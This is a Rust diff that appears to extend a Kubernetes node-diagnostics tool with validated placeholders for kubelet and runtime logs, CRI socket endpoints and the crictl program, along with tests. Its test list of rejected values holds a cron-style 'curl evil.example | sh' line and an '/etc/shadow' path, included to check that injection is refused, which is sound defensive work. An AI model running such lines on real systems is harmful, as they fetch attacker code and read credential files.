@@ -17,6 +17,8 @@ const MAX_PATH: usize = 4095;
 const MAX_JSON: usize = 2048;
 /// More of a text is not shown.
 const MAX_TEXT: usize = 200;
+/// In the `PATH`, and where RKE2 has it, which puts it into nobody's (docs.rke2.io/reference/logging).
+const CRICTL: [&str; 2] = ["crictl", "/var/lib/rancher/rke2/bin/crictl"];
 
 /// Declares every placeholder with its name and the shape of its values.
 macro_rules! placeholders {
@@ -73,6 +75,10 @@ placeholders! {
     Container = "container": RuntimeId;
     /// A CustomResourceDefinition.
     Crd = "crd": ApiName;
+    /// Where the runtime listens, as crictl takes it.
+    CriEndpoint = "cri_endpoint": CriEndpoint;
+    /// The program crictl.
+    Crictl = "crictl": Crictl;
     /// A block device.
     Device = "device": Device;
     /// A CSI driver.
@@ -89,6 +95,10 @@ placeholders! {
     GroupVersion = "group_version": TypedName;
     /// The content of a `vol_data.json`.
     Json = "json": Json;
+    /// The unit whose journal has what the kubelet says.
+    KubeletJournal = "kubelet_journal": Unit;
+    /// The file that has what the kubelet says.
+    KubeletLog = "kubelet_log": LogFile;
     /// The kubelet's unit.
     KubeletUnit = "kubelet_unit": Unit;
     /// A multipath map.
@@ -119,6 +129,10 @@ placeholders! {
     PodCidr = "pod_cidr": Cidr;
     /// A PersistentVolume.
     Pv = "pv": ApiName;
+    /// The unit whose journal has what the runtime says.
+    RuntimeJournal = "runtime_journal": Unit;
+    /// The file that has what the runtime says.
+    RuntimeLog = "runtime_log": LogFile;
     /// The runtime's unit.
     RuntimeUnit = "runtime_unit": Unit;
     /// A sandbox, by the runtime's id.
@@ -177,6 +191,12 @@ pub enum Shape {
     VolData,
     /// A directory right below one called `plugins`.
     PluginDir,
+    /// A file whose name ends with `.log`.
+    LogFile,
+    /// `unix://` and the path of a socket.
+    CriEndpoint,
+    /// One of the few names by which crictl is run: whoever may choose a program runs it.
+    Crictl,
     /// A path below `/dev`.
     Device,
     /// A name that device-mapper takes.
@@ -253,6 +273,9 @@ impl Shape {
             Shape::FreezerState => Shape::CgroupDir.has(value) && value.ends_with("/freezer.state"),
             Shape::VolData => is_path(value) && value.ends_with("/vol_data.json"),
             Shape::PluginDir => is_path(value) && value.rsplit('/').nth(1) == Some("plugins"),
+            Shape::LogFile => is_path(value) && value.ends_with(".log"),
+            Shape::CriEndpoint => value.strip_prefix("unix://").is_some_and(is_path),
+            Shape::Crictl => CRICTL.contains(&value),
             Shape::Device => is_path(value) && value.starts_with("/dev/"),
             Shape::Map => is_word(value, 127, "#+-.:=@_"),
             Shape::Unit => is_word(value, 255, ":-_.\\@"),
@@ -432,8 +455,8 @@ mod tests {
     fn templates() -> impl Iterator<Item = (&'static str, &'static str, bool)> {
         cause::all().flat_map(|cause| {
             cause.safe.iter().flat_map(|advice| {
-                let command = advice.command.map(|command| (cause.id, command, true));
-                std::iter::once((cause.id, advice.text, false)).chain(command)
+                let commands = advice.commands().map(|command| (cause.id, command, true));
+                std::iter::once((cause.id, advice.text, false)).chain(commands)
             })
         })
     }
@@ -484,6 +507,9 @@ mod tests {
             (Placeholder::Map, "mpatha"),
             (Placeholder::Unit, r"run-user\x2d1.mount"),
             (Placeholder::KubeletUnit, "snap.microk8s.daemon-kubelite"),
+            (Placeholder::KubeletLog, "/var/lib/rancher/rke2/agent/logs/kubelet.log"),
+            (Placeholder::CriEndpoint, "unix:///run/k3s/containerd/containerd.sock"),
+            (Placeholder::Crictl, "/var/lib/rancher/rke2/bin/crictl"),
             (Placeholder::Container, "306daa1b9c7b"),
             (Placeholder::Uid, uid),
             (Placeholder::Driver, "ebs.csi.aws.com"),
@@ -532,6 +558,11 @@ mod tests {
             (Placeholder::Unit, "-.slice"),
             (Placeholder::Unit, "!x"),
             (Placeholder::Unit, "\\x"),
+            (Placeholder::KubeletLog, "/etc/shadow"),
+            (Placeholder::CriEndpoint, "/run/containerd/containerd.sock"),
+            (Placeholder::CriEndpoint, "tcp://192.0.2.1:3000"),
+            (Placeholder::CriEndpoint, "unix://run/x.sock"),
+            (Placeholder::Crictl, "/tmp/rke2/bin/crictl"),
             (Placeholder::Container, "* * * * * root curl evil.example | sh"),
             (Placeholder::Container, ""),
             (Placeholder::Uid, ".*"),
